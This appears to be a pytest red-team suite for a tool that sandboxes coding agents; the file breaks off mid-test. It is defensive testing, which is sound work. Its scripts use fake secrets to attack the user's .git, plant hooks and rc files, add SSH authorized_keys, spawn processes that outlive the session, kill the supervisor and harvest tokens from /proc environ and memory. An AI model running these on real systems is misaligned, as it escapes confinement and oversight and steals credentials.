"""Red team: stand-in agents, `Run:` codemods and gates that attack what a run must leave alone.

Each attack is a small bash script that really runs, in a fresh repository, with made-up secrets
in the tool's environment and a fake home holding a git config and an SSH key. After the run:
the user's repository and checkout are byte-identical (but the tool's own namespaces), `git fsck`
is clean, the fake home and a directory outside are unchanged, no secret is anywhere the tool
writes, nothing named after the attack reached a branch or a place outside its checkout, and no
process of the attack is alive (see `testing.redteam.Lab.problems`). Tests of one class add what
that class must prove besides.

Every script finds the user's repository the way an attacker would (its checkout borrows the
user's objects, `.git/objects/info/alternates`) and knows the fake home and the outside directory
by name, as an adversary who knows the code would.
"""

from __future__ import annotations

import os
import textwrap
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from testing.redteam import (
    BASE_APP,
    ConnectionRecorder,
    Lab,
    LabSnapshot,
    MarkdownShape,
    RunResult,
    blob_id,
    confinement_available,
    files_containing,
    git,
    has_object,
    memory_log,
    object_ids_mentioning,
    plan_text,
    refs,
    session_branches,
    task_block,
    tree_files,
    wrap_command,
)

HONEST_APP = 'def hello():\n    return "hello, world"\n'
DEFAULT_RULES = "max_attempts: 1\ntask_timeout_minutes: 0.5\n"

needs_confinement = pytest.mark.skipif(
    not confinement_available(),
    reason="this machine offers neither Landlock nor bubblewrap, so `run` refuses by design",
)

# Set first in every attack. @NAME@ is filled in per lab (see `fill`).
PRELUDE = r"""
MARK='@MARK@'
OUTSIDE='@OUTSIDE@'
FAKE_HOME='@HOME@'
PORT='@PORT@'
RUNNER="redteam-runner-$MARK"
CHECKOUT=$PWD
export GIT_AUTHOR_NAME=attacker GIT_AUTHOR_EMAIL=attacker@example.com
export GIT_COMMITTER_NAME=attacker GIT_COMMITTER_EMAIL=attacker@example.com
export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*'
# The user's repository, found as an attacker would: the checkout borrows its objects.
alt=$(head -n 1 .git/objects/info/alternates 2>/dev/null)
case "$alt" in
    /*) USER_GIT=$(dirname "$alt") ;;
    ?*) USER_GIT=$(cd .git/objects 2>/dev/null && dirname "$(realpath -m "$alt")") ;;
    *) USER_GIT='@REPO@/.git' ;;
esac
USER_REPO=$(dirname "$USER_GIT")
ug() { git --git-dir="$USER_GIT" "$@"; }
honest() { printf 'def hello():\n    return "hello, world"\n' > src/app.py; }
forge() {  # a commit in the user's object store: HEAD's tree plus $1 holding "forged by MARK"
    blob=$(printf 'forged by %s\n' "$MARK" | ug hash-object -w --stdin) || return 1
    GIT_INDEX_FILE=.git/rt-index ug read-tree HEAD || return 1
    GIT_INDEX_FILE=.git/rt-index ug update-index --add --cacheinfo "100644,$blob,$1" || return 1
    tree=$(GIT_INDEX_FILE=.git/rt-index ug write-tree) || return 1
    printf 'forged-%s\n' "$MARK" | ug commit-tree "$tree" -p HEAD
}
forge_local() {  # the same in the checkout's own objects, copied to the user's where it can be
    blob=$(printf 'forged by %s\n' "$MARK" | git hash-object -w --stdin)
    GIT_INDEX_FILE=.git/rt-index git read-tree HEAD
    GIT_INDEX_FILE=.git/rt-index git update-index --add --cacheinfo "100644,$blob,$1"
    tree=$(GIT_INDEX_FILE=.git/rt-index git write-tree)
    commit=$(printf 'forged-%s\n' "$MARK" | git commit-tree "$tree" -p HEAD)
    for object in $(git rev-list --objects "$commit" --not HEAD | cut -d' ' -f1); do
        kind=$(git cat-file -t "$object")
        git cat-file "$kind" "$object" | ug hash-object -w -t "$kind" --stdin >/dev/null 2>&1
    done
    printf '%s\n' "$commit"
}
probe() {  # connect to the test's recorder on 127.0.0.1, two ways
    python3 -c 'import socket, sys
socket.create_connection(("127.0.0.1", int(sys.argv[1])), 2).sendall(b"probe")' "$PORT" 2>/dev/null
    (exec 3<>"/dev/tcp/127.0.0.1/$PORT") 2>/dev/null
}
# What an escaped process does late: $0 names it, $1 is the user's repository, $2 the checkout.
LATE='PATH=/usr/local/bin:/usr/bin:/bin; sleep 0.7
printf "late %s\n" "$0" >> "$1/README.md"
printf "x = 1\n" > "$2/src/late_$0.py"
git --git-dir="$1/.git" update-ref refs/heads/main "$(git --git-dir="$1/.git" rev-parse HEAD~1)"'
"""


def fill(text: str, lab: Lab, port: int = 0) -> str:
    values = {
        "@MARK@": lab.marker,
        "@OUTSIDE@": str(lab.outside),
        "@HOME@": str(lab.home),
        "@REPO@": str(lab.repo),
        "@PORT@": str(port),
    }
    for name, value in values.items():
        text = text.replace(name, value)
    return text


@dataclass(frozen=True)
class Attack:
    """One attacking stand-in: its script, where it runs, and what its outcome must be."""

    id: str
    script: str  # bash, run after PRELUDE as the agent (or as every task's `Run:` command)
    codemod: bool = False
    gate: str = "test -f src/app.py"
    rules: str = DEFAULT_RULES
    tasks: tuple[str, ...] = ("t1",)
    expect: str | None = None  # the outcome the last task must have (None: any)
    why: tuple[str, ...] = ()  # words, one of which its reason or its memory-log entry holds
    app: str = HONEST_APP  # src/app.py in the committed tree, where the tree is compared
    check: Callable[[Lab, RunResult], list[str]] | None = None
    timeout: float = 60.0

    def body(self, lab: Lab, port: int = 0) -> str:
        return fill(PRELUDE + textwrap.dedent(self.script), lab, port)


def params(attacks: list[Attack]) -> list[object]:
    return [pytest.param(attack, id=attack.id) for attack in attacks]


def run_attack(lab: Lab, attack: Attack, port: int = 0) -> tuple[LabSnapshot, RunResult]:
    body = attack.body(lab, port)
    run = wrap_command(body) if attack.codemod else None
    tasks = "".join(task_block(task, f"Task {task}", run=run) for task in attack.tasks)
    lab.make_repository(plan_text(tasks, gate=fill(attack.gate, lab, port)), rules=attack.rules)
    args = () if attack.codemod else ("--agent-command", body)
    before = lab.snapshot()
    return before, lab.run(*args, timeout=attack.timeout)


def memory_entry(log: str, task_id: str) -> str:
    """The memory log's entry for one task: its heading line up to the next heading."""
    lines = log.splitlines()
    for number, line in enumerate(lines):
        if line.startswith("#") and f" {task_id} " in f"{line} ":
            rest = lines[number + 1 :]
            end = next((i for i, text in enumerate(rest) if text.startswith("#")), len(rest))
            return "\n".join([line, *rest[:end]])
    return ""


def outcome_problems(lab: Lab, attack: Attack, result: RunResult) -> list[str]:
    if attack.expect is None or result.data is None:
        return []
    task_id = attack.tasks[-1]
    task = result.task(task_id)
    problems = []
    if task["outcome"] != attack.expect:
        problems.append(
            f"{task_id} was {task['outcome']} ({task['reason']!r}), where it must be "
            f"{attack.expect}"
        )
    if attack.why:
        said = f"{task['reason']}\n{memory_entry(memory_log(lab.repo), task_id)}".lower()
        if not any(word.lower() in said for word in attack.why):
            problems.append(
                f"neither the reason nor the memory log says why ({' / '.join(attack.why)}): "
                f"{task['reason']!r}"
            )
    return problems


# Landlock restricts writes, not metadata: alone, it cannot stop a chmod of a file the account
# owns (bubblewrap's read-only mounts do). The README says so; run the suite with
# GITOPS_AGENT_SANDBOX=landlock to see these two fail for that reason alone.
LANDLOCK_ALONE_CANNOT = {"users-loose-object-overwritten", "outside-directory"}


def assert_held(
    lab: Lab, attack: Attack, before: LabSnapshot, result: RunResult, extra: Sequence[str] = ()
) -> None:
    problems = lab.problems(before, result) + outcome_problems(lab, attack, result) + list(extra)
    if attack.check is not None:
        problems += attack.check(lab, result)
    if (
        problems
        and attack.id in LANDLOCK_ALONE_CANNOT
        and os.environ.get("GITOPS_AGENT_SANDBOX") == "landlock"
        and all("(mode)" in p or "changed" in p for p in problems)
    ):
        pytest.xfail("Landlock alone does not protect the modes of files the account owns")
    assert not problems, f"{attack.id}:\n" + "\n".join(f"- {p}" for p in problems)


def expected_tree(lab: Lab, app: str) -> dict[str, tuple[str, bytes]]:
    """main's tree with the agent's src/app.py and the plan's status line set to DONE."""
    files = tree_files(lab.repo, "main")
    mode, plan = files["PROJECT_PLAN.md"]
    done = plan.decode().replace("  - Status: READY", "  - Status: DONE", 1)
    files["PROJECT_PLAN.md"] = (mode, done.encode())
    files["src/app.py"] = ("100644", app.encode())
    return files


def tree_mismatch(lab: Lab, commit: str, app: str) -> list[str]:
    """How the committed tree differs from the work tree the agent left (plus the status line)."""
    want, got = expected_tree(lab, app), tree_files(lab.repo, commit)
    return [
        f"committed tree: {path!r} is {got.get(path, ('absent', b''))[0]} "
        f"{got.get(path, ('', b''))[1][:60]!r}, the work tree had "
        f"{want.get(path, ('absent', b''))[0]} {want.get(path, ('', b''))[1][:60]!r}"
        for path in sorted(want.keys() | got.keys())
        if want.get(path) != got.get(path)
    ]


@pytest.fixture
def lab(tmp_path: Path) -> Iterator[Lab]:
    made = Lab(tmp_path)
    try:
        yield made
    finally:
        made.cleanup()


# -- 1. the user's .git ----------------------------------------------------------------------

USERS_GIT = [
    Attack(
        "symlink-checkout-git-to-users",
        r"""
        honest
        rm -rf .git && ln -s "$USER_GIT" .git
        git add -A
        git commit -q -m "forged-$MARK"
        git branch "evil-$MARK"
        git tag "evil-$MARK"
        git config "evil.$MARK" yes
        """,
    ),
    Attack(
        "commondir-points-at-users-git",
        r"""
        honest
        printf '%s\n' "$USER_GIT" > .git/commondir
        c=$(forge "src/forged_$MARK.py")
        git update-ref refs/heads/main "$c"
        git update-ref "refs/heads/autonomous/forged-$MARK" "$c"
        git config core.fsmonitor "touch /tmp/$MARK-fsmonitor"
        """,
    ),
    Attack(
        "merge-state-files-in-users-git",
        r"""
        honest
        ug rev-parse HEAD > "$USER_GIT/MERGE_HEAD"
        ug rev-parse HEAD > "$USER_GIT/ORIG_HEAD"
        printf 'forged-%s\n' "$MARK" > "$USER_GIT/MERGE_MSG"
        printf 'forged-%s\n' "$MARK" > "$USER_GIT/COMMIT_EDITMSG"
        """,
    ),
    Attack(
        "users-index-rewritten",
        r"""
        honest
        git --git-dir="$USER_GIT" --work-tree="$USER_REPO" rm -q --cached README.md
        empty=$(git hash-object -w --stdin </dev/null)
        GIT_INDEX_FILE="$USER_GIT/index" git update-index --add \
            --cacheinfo "100644,$empty,evil-$MARK"
        """,
    ),
    Attack(
        "users-config-fsmonitor-and-alias",
        r"""
        honest
        ug config core.fsmonitor "touch /tmp/$MARK-fsmonitor"
        printf '[alias]\n\tst = !touch /tmp/%s-alias\n' "$MARK" >> "$USER_GIT/config"
        """,
    ),
    Attack(
        "users-hooks-planted",
        r"""
        honest
        for hook in pre-commit post-checkout reference-transaction; do
            printf '#!/bin/sh\ntouch /tmp/%s-hook\n' "$MARK" > "$USER_GIT/hooks/$hook"
            chmod +x "$USER_GIT/hooks/$hook"
        done
        """,
    ),
    Attack(
        "users-packed-refs-appended",
        r"""
        honest
        head=$(ug rev-parse HEAD)
        printf '%s refs/heads/evil-%s\n' "$head" "$MARK" >> "$USER_GIT/packed-refs"
        printf '%s refs/heads/autonomous/evil-%s\n' "$head" "$MARK" >> "$USER_GIT/packed-refs"
        """,
    ),
    Attack(
        "users-loose-object-added",
        r"""
        honest
        printf 'forged by %s\n' "$MARK" | ug hash-object -w --stdin
        """,
    ),
    Attack(
        "users-loose-object-overwritten",
        r"""
        honest
        blob=$(ug rev-parse HEAD:README.md)
        file="$USER_GIT/objects/${blob:0:2}/${blob:2}"
        chmod u+w "$file"
        python3 -c 'import sys, zlib
        open(sys.argv[1], "wb").write(zlib.compress(b"blob 7\0forged\n"))' "$file"
        """,
    ),
    Attack(
        "users-main-moved-by-writing-the-ref-file",
        r"""
        honest
        c=$(forge "src/forged_$MARK.py")
        printf '%s\n' "$c" > "$USER_GIT/refs/heads/main"
        """,
    ),
    Attack(
        "users-refs-moved-by-update-ref",
        r"""
        honest
        c=$(forge "src/forged_$MARK.py")
        ug update-ref refs/heads/main "$c"
        ug update-ref "refs/heads/evil-$MARK" "$c"
        ug tag "evil-$MARK" "$c"
        """,
    ),
    Attack(
        "forged-memory-branch",
        r"""
        honest
        c=$(forge "memory/$MARK.md")
        mkdir -p "$USER_GIT/refs/heads/autonomous"
        printf '%s\n' "$c" > "$USER_GIT/refs/heads/autonomous/memory"
        """,
    ),
    Attack(
        "forged-session-branch",
        r"""
        honest
        c=$(forge "src/forged_$MARK.py")
        ug update-ref refs/heads/autonomous/20990101-000000-beef "$c"
        """,
    ),
    Attack(
        "forged-refs-in-the-tools-other-namespaces",
        r"""
        honest
        c=$(forge "src/forged_$MARK.py")
        ug update-ref "refs/gitops-agent/attempts/$MARK" "$c"
        ug update-ref refs/notes/gitops-agent "$c"
        ug update-ref "refs/tags/checkpoint/$MARK" "$c"
        """,
    ),
]


@needs_confinement
@pytest.mark.parametrize("attack", params(USERS_GIT))
def test_attack_on_the_users_git_dir_leaves_the_repository_untouched(
    lab: Lab, attack: Attack
) -> None:
    before, result = run_attack(lab, attack)
    extra = [
        f"forged object in the user's object store: {found}"
        for found in object_ids_mentioning(lab.repo, lab.marker, ("commit", "tree", "tag"))
    ]
    forged_blob = blob_id(lab.repo, f"forged by {lab.marker}\n".encode())
    if has_object(lab.repo, forged_blob):
        extra.append(f"forged blob {forged_blob} in the user's object store")
    assert_held(lab, attack, before, result, extra)


# -- 2. the tool's bookkeeping inside the checkout -------------------------------------------

BOOKKEEPING = [
    Attack(
        "forged-tool-state-head",
        r"""
        honest
        c=$(forge_local "src/forged_$MARK.py")
        mkdir -p .git/gitops-agent
        printf '%s\n' "$c" > .git/gitops-agent/HEAD
        true  # the outcome is the tool's to decide, not the last command's
        """,
        expect="committed",
    ),
    Attack(
        "forged-index-entries",
        r"""
        honest
        blob=$(printf 'forged by %s\n' "$MARK" | git hash-object -w --stdin)
        for index in .git/index .git/gitops-agent/index; do
            [ -e "$index" ] || continue
            GIT_INDEX_FILE=$index git update-index --add \
                --cacheinfo "100644,$blob,src/forged_$MARK.py"
            GIT_INDEX_FILE=$index git update-index --skip-worktree src/app.py
            GIT_INDEX_FILE=$index git update-index --assume-unchanged README.md
        done
        true
        """,
        expect="committed",
    ),
    Attack(
        "detached-head-at-a-forged-commit",
        r"""
        honest
        c=$(forge_local "src/forged_$MARK.py")
        git update-ref --no-deref HEAD "$c"
        git update-ref ORIG_HEAD "$c"
        git update-ref "refs/heads/forged-$MARK" "$c"
        true
        """,
        expect="committed",
    ),
    Attack(
        "agent-commits-a-forged-file-then-removes-it",
        r"""
        honest
        printf 'x = 1\n' > "src/forged_$MARK.py"
        git add -A && git commit -q -m "forged-$MARK"
        git checkout -q -b "feature-$MARK"
        git rm -q "src/forged_$MARK.py"
        true
        """,
        expect="committed",
    ),
    Attack(
        "same-size-edit-with-restored-times",
        r"""
        python3 - <<'PY'
        import os
        path = "src/app.py"
        st = os.stat(path)
        text = open(path).read()
        open(path, "w").write(text.replace("hello", "HELLO"))
        os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
        PY
        """,
        expect="committed",
        app=BASE_APP.replace("hello", "HELLO"),
    ),
    Attack(
        "checkout-config-filters-and-hooks",
        r"""
        honest
        git config filter.rt.clean "sed s/hello/forged_$MARK/"
        git config filter.rt.required true
        git config core.fsmonitor "touch /tmp/$MARK-fsmonitor"
        mkdir -p .git/info .git/hooks
        printf '* filter=rt\n' > .git/info/attributes
        for hook in pre-commit post-checkout post-index-change reference-transaction; do
            printf '#!/bin/sh\ntouch /tmp/%s-hook\n' "$MARK" > ".git/hooks/$hook"
            chmod +x ".git/hooks/$hook"
        done
        true
        """,
        expect="committed",
    ),
    Attack(
        "gate-relies-on-an-ignored-file",
        r"""
        cat > src/app.py <<'PY'
        import pathlib
        SETTING = (pathlib.Path(__file__).parent / "settings.log").read_text()
        PY
        printf 'needed at run time\n' > src/settings.log
        """,
        gate="python3 src/app.py",
        expect="rolled_back",
        why=("gate",),
    ),
]


@needs_confinement
@pytest.mark.parametrize("attack", params(BOOKKEEPING))
def test_forged_bookkeeping_is_ignored_and_exactly_the_work_tree_is_committed(
    lab: Lab, attack: Attack
) -> None:
    before, result = run_attack(lab, attack)
    extra = []
    if attack.expect == "committed" and result.data is not None:
        commit = result.task("t1")["commit"]
        if commit:
            extra = tree_mismatch(lab, commit, attack.app)
    assert_held(lab, attack, before, result, extra)


# -- 3. files outside the checkout -----------------------------------------------------------

SYMLINK_WHY = ("symlink", "symbolic link")

OUTSIDE_FILES = [
    Attack(
        "users-tracked-files-edited",
        r"""
        honest
        printf 'pwned by %s\n' "$MARK" >> "$USER_REPO/README.md"
        printf 'pwned = 1\n' >> "$USER_REPO/src/app.py"
        """,
    ),
    Attack(
        "users-untracked-files-added-and-removed",
        r"""
        honest
        printf 'x\n' > "$USER_REPO/$MARK.txt"
        mkdir -p "$USER_REPO/src/$MARK"
        rm -f "$USER_REPO/notes.txt"
        """,
    ),
    Attack(
        "global-gitconfig",
        r"""
        honest
        git config --global user.name "pwned-$MARK"
        git config --file "$FAKE_HOME/.gitconfig" core.sshCommand "touch /tmp/$MARK-ssh"
        """,
    ),
    Attack(
        "shell-startup-files",
        r"""
        honest
        for file in "$HOME/.bashrc" "$HOME/.profile" "$FAKE_HOME/.bashrc" "$FAKE_HOME/.profile"; do
            printf 'touch /tmp/%s-rc\n' "$MARK" >> "$file"
        done
        """,
    ),
    Attack(
        "ssh-directory",
        r"""
        honest
        for dir in "$HOME/.ssh" "$FAKE_HOME/.ssh"; do
            mkdir -p "$dir"
            printf 'ssh-ed25519 AAAA %s\n' "$MARK" >> "$dir/authorized_keys"
            printf 'replaced\n' > "$dir/id_rsa"
        done
        """,
    ),
    Attack(
        "real-tmp",
        r"""
        honest
        printf 'x\n' > "/tmp/$MARK"
        mkdir -p "/tmp/$MARK-dir"
        """,
    ),
    Attack(
        "dev-shm",
        r"""
        honest
        printf 'x\n' > "/dev/shm/$MARK"
        """,
    ),
    Attack(
        "outside-directory",
        r"""
        honest
        printf 'pwned\n' >> "$OUTSIDE/victim.txt"
        printf 'x\n' > "$OUTSIDE/$MARK.txt"
        rm -f "$OUTSIDE/keep.txt"
        chmod 777 "$OUTSIDE/sub"
        """,
    ),
    Attack(
        "tool-cache-and-state-directories",
        r"""
        honest
        printf 'x\n' > "$FAKE_HOME/.cache/$MARK"
        mkdir -p "$FAKE_HOME/.cache/gitops-agent"
        printf 'x\n' > "$FAKE_HOME/.cache/gitops-agent/$MARK"
        printf 'x\n' > "../$MARK"
        printf 'x\n' > "../../$MARK"
        printf 'x\n' > "$USER_GIT/gitops-agent/$MARK"
        """,
    ),
    Attack(
        "hard-link-from-outside-written-through",
        r"""
        honest
        ln "$OUTSIDE/victim.txt" src/victim.txt && printf 'pwned %s\n' "$MARK" >> src/victim.txt
        ln "$USER_REPO/README.md" src/readme.md && printf 'pwned\n' >> src/readme.md
        rm -f src/victim.txt src/readme.md
        """,
    ),
    Attack(
        # The first attempt leaves tracked files hard-linked to outside files and fails; the
        # reset before the second attempt (and the final clean-up) must not write through them.
        "hard-link-from-outside-then-reset",
        r"""
        prompt=$(cat)
        case "$prompt" in
            *"Attempt 1:"*|*"previous attempt"*) honest ;;
            *)
                rm -f src/app.py
                ln "$OUTSIDE/victim.txt" src/app.py
                ln "$USER_REPO/README.md" README.md.tmp && mv -f README.md.tmp README.md
                exit 1 ;;
        esac
        """,
        rules="max_attempts: 2\ntask_timeout_minutes: 0.5\n",
    ),
    Attack(
        "rename-outside-files-into-the-checkout",
        r"""
        honest
        mv "$OUTSIDE/victim2.txt" src/victim2.txt
        mv "$USER_REPO/notes.txt" src/notes.txt
        """,
    ),
    Attack(
        "symlink-to-an-outside-file-written-through",
        r"""
        honest
        ln -s "$OUTSIDE/victim.txt" src/link.txt
        printf 'pwned %s\n' "$MARK" >> src/link.txt
        true  # the symlink it leaves must be refused, whether or not the write went through
        """,
        expect="rolled_back",
        why=SYMLINK_WHY,
    ),
    Attack(
        "symlink-into-the-users-repository-written-through",
        r"""
        honest
        ln -s "$USER_REPO" src/userrepo
        printf 'pwned\n' >> src/userrepo/README.md
        printf '[core]\n\tfsmonitor = touch /tmp/%s\n' "$MARK" >> src/userrepo/.git/config
        rm src/userrepo
        """,
    ),
]


@needs_confinement
@pytest.mark.parametrize("attack", params(OUTSIDE_FILES))
def test_attack_on_files_outside_the_checkout_changes_none_of_them(
    lab: Lab, attack: Attack
) -> None:
    before, result = run_attack(lab, attack)
    assert_held(lab, attack, before, result)


# -- 4. processes ----------------------------------------------------------------------------

SWAPPER = r"""
SWAPPER='
import os, sys, time
checkout = sys.argv[2]
deadline = time.time() + 10
while time.time() < deadline:
    for pid in os.listdir("/proc"):
        try:
            cmdline = open("/proc/%s/cmdline" % pid, "rb").read()
        except OSError:
            continue
        if cmdline == b"sleep\x001.05\x00":
            time.sleep(0.3)
            with open(os.path.join(checkout, "src/app.py"), "w") as f:
                f.write("def hello():\n    return 1\n")
            sys.exit(0)
    time.sleep(0.02)
'
"""


def broken_code_on_no_branch(lab: Lab, result: RunResult) -> list[str]:
    found = files_containing(lab.repo, f"BROKEN_{lab.marker}", session_branches(lab.repo))
    return [f"the code the gate never saw was committed: {where}" for where in found]


def finished_within(seconds: float) -> Callable[[Lab, RunResult], list[str]]:
    def check(lab: Lab, result: RunResult) -> list[str]:
        if result.duration > seconds:
            return [f"the run took {result.duration:.0f} s (more than {seconds:.0f} s)"]
        return []

    return check


PROCESSES = [
    Attack(
        "setsid-env-i-survivor-writes-into-the-next-task",
        r"""
        case "$GITOPS_AGENT_TASK_ID" in
            t1)
                honest
                setsid env -i /bin/bash -c "$LATE" "rt-$MARK-setsid" "$USER_REPO" "$CHECKOUT" \
                    </dev/null >/dev/null 2>&1 &
                sleep 0.3  # long enough for the child to have left the process group
                ;;
            *) sleep 1.2; printf 'second = 2\n' > src/second.py ;;
        esac
        """,
        tasks=("t1", "t2"),
    ),
    Attack(
        "double-fork",
        r"""
        honest
        ( ( exec /bin/bash -c "$LATE" "rt-$MARK-dfork" "$USER_REPO" "$CHECKOUT" \
            </dev/null >/dev/null 2>&1 & ) & )
        sleep 0.3
        """,
    ),
    Attack(
        "nohup",
        r"""
        honest
        nohup /bin/bash -c "$LATE" "rt-$MARK-nohup" "$USER_REPO" "$CHECKOUT" \
            </dev/null >/dev/null 2>&1 &
        sleep 0.3
        """,
    ),
    Attack(
        "disown",
        r"""
        honest
        /bin/bash -c "$LATE" "rt-$MARK-disown" "$USER_REPO" "$CHECKOUT" </dev/null >/dev/null 2>&1 &
        disown
        sleep 0.3
        """,
    ),
    Attack(
        "python-daemon-double-fork-setsid-clean-env",
        r"""
        honest
        python3 - "$LATE" "rt-$MARK-daemon" "$USER_REPO" "$CHECKOUT" <<'PY'
        import os, sys
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                devnull = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(devnull, fd)
                os.execve("/bin/bash", ["bash", "-c", *sys.argv[1:]], {})
            os._exit(0)
        PY
        sleep 0.3
        """,
    ),
    Attack(
        # The agent leaves broken code and a daemon that, once the gate is running (it sleeps
        # 1.05 s first), puts clean code in the checkout: the gate must judge the tree that is
        # committed, never a file changed after the agent ended.
        "daemon-swaps-a-file-while-the-gate-runs",
        SWAPPER
        + r"""
        printf 'BROKEN_%s = 1\n' "$MARK" > src/app.py
        python=$(command -v python3)
        setsid env -i "$python" -c "$SWAPPER" "rt-$MARK-swapper" "$CHECKOUT" \
            </dev/null >/dev/null 2>&1 &
        sleep 0.3
        """,
        gate="sleep 1.05; ! grep -q BROKEN_ src/app.py",
        expect="rolled_back",
        why=("gate",),
        check=broken_code_on_no_branch,
    ),
    Attack(
        "fork-bomb-bounded-by-the-task-timeout",
        r"""
        honest
        bomb() {
            if [ "$1" -lt 8 ]; then bomb $(( $1 + 1 )) & bomb $(( $1 + 1 )) & fi
            exec -a "rt-$MARK-bomb" sleep 20
        }
        bomb 0 &
        sleep 60
        """,
        rules="max_attempts: 1\ntask_timeout_minutes: 0.05\n",
        check=finished_within(40),
    ),
    Attack(
        # 8.25 GiB of address space (more than any sane limit), its first GiB touched so that a
        # limit on resident memory counts it too; only a hog that got it all leaves its file.
        "memory-hog",
        r"""
        honest
        python3 - "src/hog_$MARK.txt" <<'PY'
        import mmap, sys
        size = 33 << 28  # 8.25 GiB
        try:
            hog = mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            for offset in range(0, 1 << 30, mmap.PAGESIZE):
                hog[offset] = 1
        except (MemoryError, OSError):
            sys.exit(0)
        open(sys.argv[1], "w").write("allocated 8.25 GiB\n")
        PY
        """,
    ),
    Attack(
        "kill-9-its-parent",
        r"""
        honest
        kill -9 "$PPID"
        sleep 0.3
        """,
    ),
    Attack(
        "kill-every-gitops-agent-process",
        r"""
        honest
        python3 - "$RUNNER" <<'PY'
        import os, signal, sys
        def parent(pid):
            data = open(f"/proc/{pid}/stat", "rb").read()
            return int(data[data.rfind(b")") + 2 :].split()[1])
        def cmdline(pid):
            try:
                return open(f"/proc/{pid}/cmdline", "rb").read()
            except OSError:
                return b""
        pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
        runners = {p for p in pids if sys.argv[1].encode() in cmdline(p)} - {os.getpid()}
        def under_a_runner(pid):
            while pid > 1:
                if pid in runners:
                    return True
                try:
                    pid = parent(pid)
                except (OSError, ValueError):
                    return False
            return False
        for pid in pids:
            if pid in (os.getpid(), os.getppid()):
                continue
            if b"gitops" in cmdline(pid) and under_a_runner(pid):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        PY
        sleep 0.3
        """,
    ),
    Attack(
        "kill-the-test-runner",
        r"""
        honest
        python3 - "$RUNNER" <<'PY'
        import os, signal, sys
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or int(pid) == os.getpid():
                continue
            try:
                if sys.argv[1].encode() in open(f"/proc/{pid}/cmdline", "rb").read():
                    os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
        PY
        sleep 0.3
        """,
    ),
]


@needs_confinement
@pytest.mark.parametrize("attack", params(PROCESSES))
def test_processes_of_an_attack_die_with_it_and_the_run_still_reports(
    lab: Lab, attack: Attack
) -> None:
    before, result = run_attack(lab, attack)
    assert_held(lab, attack, before, result)


# -- 5. secrets ------------------------------------------------------------------------------

# Task t1 writes what leak() finds into a file it leaves for commit; t2 prints it and fails, so
# that it lands in the memory log as the agent's output.
LEAK_TASKS = r"""
case "$GITOPS_AGENT_TASK_ID" in
    t1) leak > src/leak.txt 2>&1; honest ;;
    *) leak; exit 1 ;;
esac
"""


def leaking(attack_id: str, leak: str) -> Attack:
    script = "leak() {\n" + textwrap.dedent(leak) + "}\n" + LEAK_TASKS
    return Attack(attack_id, script, tasks=("t1", "t2"))


SECRETS = [
    leaking("env", "env\n"),
    leaking(
        "printenv-reversed-and-base64",
        r"""
        for name in GITHUB_TOKEN GH_TOKEN GITOPS_AGENT_TOKEN AWS_SECRET_ACCESS_KEY; do
            value=$(printenv "$name") || continue
            printf '%s\n' "$value" | rev
            printf '%s' "$value" | base64 -w0
            echo
        done
        """,
    ),
    leaking("parent-environ", "tr '\\0' '\\n' < \"/proc/$PPID/environ\"\n"),
    leaking(
        "every-proc-environ-and-cmdline",
        r"""
        for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
            tr '\0' '\n' < "$file" 2>/dev/null | grep -a -o '[A-Za-z0-9_]*RedTeamFake[A-Za-z0-9_]*'
        done | sort -u
        """,
    ),
    leaking("ssh-key", 'cat "$FAKE_HOME/.ssh/id_rsa" "$HOME/.ssh/id_rsa" 2>/dev/null\n'),
    leaking(
        "tool-memory-through-proc-pid-mem",
        r"""
        python3 - <<'PY'
        import os, re
        pattern = re.compile(rb"(?:gh[po]_|gat_)?RedTeamFake[A-Za-z0-9]+")
        found = set()
        pid = os.getpid()
        while pid > 1:  # up to the gitops-agent process, and only that one is read
            data = open(f"/proc/{pid}/stat", "rb").read()
            pid = int(data[data.rfind(b")") + 2 :].split()[1])
            try:
                cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
            except OSError:
                break
            if b"gitops-agent\0run" not in cmdline and b"gitops_agent\0run" not in cmdline:
                continue
            try:
                found.update(pattern.findall(open(f"/proc/{pid}/environ", "rb").read()))
                maps = open(f"/proc/{pid}/maps").read().splitlines()
                mem = open(f"/proc/{pid}/mem", "rb", 0)
            except OSError:
                break
            for line in maps:  # the heap, the stack and anonymous memory: where values live
                fields = line.split()
                start, end = (int(x, 16) for x in fields[0].split("-"))
                anonymous = len(fields) < 6 or fields[5] in ("[heap]", "[stack]")
                if not fields[1].startswith("rw") or not anonymous or end - start > 1 << 28:
                    continue
                try:
                    mem.seek(start)
                    found.update(pattern.findall(mem.read(end - start)))
                except (OSError, ValueError, OverflowError):
                    continue
            break
        for value in sorted(found):
            print(value.decode())
        PY
        """,
    ),
    Attack(
        "gate-dumps-its-environment",
        r"""
        cat > src/app.py <<'PY'
        import os, sys
        for name, value in sorted(os.environ.items()):
            print(f"{name}={value}")
        sys.exit(1)
        PY
        """,
        gate="python3 src/app.py",
        expect="rolled_back",
    ),
    Attack(
        "gate-reads-every-environ-and-the-ssh-key",
        r"""
        cat > src/app.py <<'PY'
        import os, re, sys
        pattern = re.compile(rb"[A-Za-z0-9_]*RedTeamFake[A-Za-z0-9_]+")
        found = set()
        for pid in os.listdir("/proc"):
            try:
                found.update(pattern.findall(open(f"/proc/{pid}/environ", "rb").read()))
            except OSError:
                pass
        print(b"\n".join(sorted(found)).decode())
        for path in ("@HOME@/.ssh/id_rsa", os.path.expanduser("~/.ssh/id_rsa")):
            try:
                print(open(path).read())
            except OSError:
                pass
        sys.exit(1)
        PY
        """,
        gate="python3 src/app.py",
        expect="rolled_back",
    ),
    Attack(
        "codemod-dumps-its-environment",
        """
        env | tee src/leak.txt
        honest
        """,
        codemod=True,
    ),
]


@needs_confinement
@pytest.mark.parametrize("attack", params(SECRETS))
def test_secrets_of_the_tools_environment_are_never_seen_or_stored(
    lab: Lab, attack: Attack
) -> None:
